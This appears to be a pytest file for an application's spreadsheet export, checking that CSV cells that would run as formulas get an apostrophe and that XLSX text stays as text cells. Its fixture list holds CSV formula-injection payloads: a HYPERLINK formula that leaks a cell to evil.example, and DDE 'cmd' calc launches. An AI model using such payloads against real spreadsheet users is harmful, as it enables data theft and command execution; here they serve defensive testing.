"""The one cell rule: CSV cells a spreadsheet could run get an apostrophe, XLSX texts are text cells."""

import io
from datetime import datetime
from decimal import Decimal

import pytest
import xlsxwriter
from openpyxl import Workbook, load_workbook

from app.spreadsheets.bulk_rows import BulkRowsWorksheet, RowsXml, put_in_reserved_rows
from app.spreadsheets.cell_runs import CellRun, cells_of_runs
from app.spreadsheets.cells import csv_row, csv_text, unescape_csv_text, write_xlsx_row, xlsx_row

RUNNABLE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "  =1+1",
    "\u00a0=1+1",
    "\n=1+1",
    "\t=1+1",
    "\r=1+1",
    "\t123",
    "\uff1dSUM(A1)",
    "\uff20SUM(A1)",
]
PLAIN = ["Kyläyhdistys ry", "kyla@example.fi", "+358 40 123 4567", "-5", "(09) 123 456", "", "a=b", "1+1"]


@pytest.mark.parametrize("value", RUNNABLE)
def test_a_csv_cell_a_spreadsheet_could_run_gets_an_apostrophe_and_reads_back(value):
    assert csv_text(value) == "'" + value
    assert unescape_csv_text(csv_text(value)) == value


@pytest.mark.parametrize("value", PLAIN)
def test_text_numbers_and_phone_numbers_stay_as_written_in_csv(value):
    assert csv_text(value) == value
    assert unescape_csv_text(value) == value


def test_csv_row_writes_none_as_empty_and_leaves_numbers_alone():
    assert csv_row([None, 3, 1.5, "=1"]) == ["", 3, 1.5, "'=1"]


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_texts_are_text_cells_never_formulas_or_errors(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("Data") if write_only else workbook.active
    sheet.append(xlsx_row(sheet, [*RUNNABLE[:4], "#N/A", "ctrl\x01char", 7, None]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = list(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())[0]
    assert [cell.data_type for cell in cells[:6]] == ["s"] * 6
    assert [cell.value for cell in cells[:4]] == RUNNABLE[:4]
    assert cells[5].value == "ctrlchar"  # XML cannot hold the control character
    assert cells[6].value == 7 and cells[6].data_type == "n"


def test_xlsxwriter_rows_keep_texts_as_text_and_numbers_and_times_as_numbers():
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"constant_memory": True})
    sheet = workbook.add_worksheet("Data")
    stamp = workbook.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})
    write_xlsx_row(sheet, 0, [*RUNNABLE[:4], "#N/A", "ctrl\x01char", 7, None, Decimal("1.5"),
                              datetime(2026, 3, 1, 9, 18), True], date_format=stamp)
    workbook.close()
    cells = list(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())[0]
    assert [cell.data_type for cell in cells[:6]] == ["s"] * 6
    assert [cell.value for cell in cells[:4]] == RUNNABLE[:4]
    assert cells[4].value == "#N/A" and cells[5].value == "ctrlchar"
    assert (cells[6].value, cells[6].data_type) == (7, "n") and cells[7].value is None
    assert cells[8].value == 1.5
    assert cells[9].value == datetime(2026, 3, 1, 9, 18) and cells[9].number_format == "yyyy-mm-dd hh:mm:ss"
    assert cells[10].value is True


def _xlsxwriter_cells(write) -> list[list]:
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"constant_memory": True}) as workbook:
        sheet = workbook.add_worksheet("Data", worksheet_class=BulkRowsWorksheet)
        write(sheet, workbook.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"}))
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    return [[(cell.value, cell.data_type, cell.number_format) for cell in row] for row in sheet.iter_rows()]


def test_bulk_rows_are_the_cells_write_xlsx_row_writes():
    rows = [
        [*RUNNABLE, "#N/A", "ctrl\x01char", "line\nbreak", "  spaced ", "_x0041_", "<b>&amp;</b>", "Rääkkylä"],
        [7, None, Decimal("1.5"), 0.1 + 0.2, 10**15, -3, datetime(2026, 3, 1, 9, 18), True, False, None, "x"],
        [],
        [None, None, "after an empty row"],
    ]

    def one_by_one(sheet, stamp):
        write_xlsx_row(sheet, 0, ["heading"])
        for index, values in enumerate(rows, start=1):
            write_xlsx_row(sheet, index, values, date_format=stamp)
        write_xlsx_row(sheet, len(rows) + 1, ["last"])

    def at_once(sheet, stamp):
        write_xlsx_row(sheet, 0, ["heading"])
        after = sheet.write_rows(1, rows, stamp)
        write_xlsx_row(sheet, after, ["last"])

    assert _xlsxwriter_cells(at_once) == _xlsxwriter_cells(one_by_one)
    cells = _xlsxwriter_cells(at_once)
    assert [value for value, _, _ in cells[1][:4]] == RUNNABLE[:4]
    assert {data_type for _, data_type, _ in cells[1] if data_type} == {"s"}
    assert cells[2][6] == (datetime(2026, 3, 1, 9, 18), "d", "yyyy-mm-dd hh:mm:ss")


def test_rows_as_runs_shared_between_rows_are_the_cells_write_xlsx_row_writes():
    """A run's XML is made once with a place for the row number: shared by rows far apart, each row's cells
    still carry their own row."""
    answer = CellRun(3, (*RUNNABLE[:2], None, Decimal("1.5"), "<b>&amp;</b>"))
    register = CellRun(1, ("fi", datetime(2026, 3, 1, 9, 18)))
    rows = [[CellRun(0, (index,)), register, answer] if index % 3 else [CellRun(0, (index,)), answer]
            for index in range(12)]
    rows[5] = []  # an empty row between

    def one_by_one(sheet, stamp):
        for index, runs in enumerate(rows):
            write_xlsx_row(sheet, index + 2, cells_of_runs(runs, 8), date_format=stamp)

    def as_runs(sheet, stamp):
        assert sheet.write_runs(2, rows, stamp) == 14

    assert _xlsxwriter_cells(as_runs) == _xlsxwriter_cells(one_by_one)


def test_rows_made_apart_and_put_into_the_written_workbook_are_the_rows_written_in_it(tmp_path):
    rows = [[index, f"=text {index}", datetime(2026, 3, 1, 9, index), Decimal("1.5") if index % 2 else None]
            for index in range(50)]
    path = tmp_path / "rows.xml"
    with path.open("w", encoding="utf-8") as file:
        span = RowsXml(file.write, date_style=1).write_rows(1, rows)

    def in_it(sheet, stamp):
        write_xlsx_row(sheet, 0, ["heading"])
        assert stamp._get_xf_index() == 1
        write_xlsx_row(sheet, sheet.write_rows(1, rows, stamp), ["last"])

    def reserved(sheet, stamp):
        write_xlsx_row(sheet, 0, ["heading"])
        assert stamp._get_xf_index() == 1  # the rows' date style is the workbook's
        write_xlsx_row(sheet, sheet.reserve_rows(span), ["last"])

    def put_in(write) -> bytes:
        buffer = io.BytesIO()
        with xlsxwriter.Workbook(buffer, {"constant_memory": True}) as workbook:
            sheet = workbook.add_worksheet("Data", worksheet_class=BulkRowsWorksheet)
            write(sheet, workbook.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"}))
        with path.open("rb") as source:
            return put_in_reserved_rows(buffer.getvalue(), source)

    workbook = load_workbook(io.BytesIO(put_in(reserved)))
    cells = [[(cell.value, cell.data_type, cell.number_format) for cell in row]
             for row in workbook.worksheets[0].iter_rows()]
    assert cells == _xlsxwriter_cells(in_it)
    assert cells[2][1] == ("=text 1", "s", "General") and workbook.worksheets[0].dimensions == "A1:D52"


def test_bulk_rows_refuse_to_go_back_up_the_sheet():
    def backwards(sheet, stamp):
        write_xlsx_row(sheet, 5, ["five"])
        sheet.write_rows(3, [["three"]], stamp)

    with pytest.raises(ValueError):
        _xlsxwriter_cells(backwards)
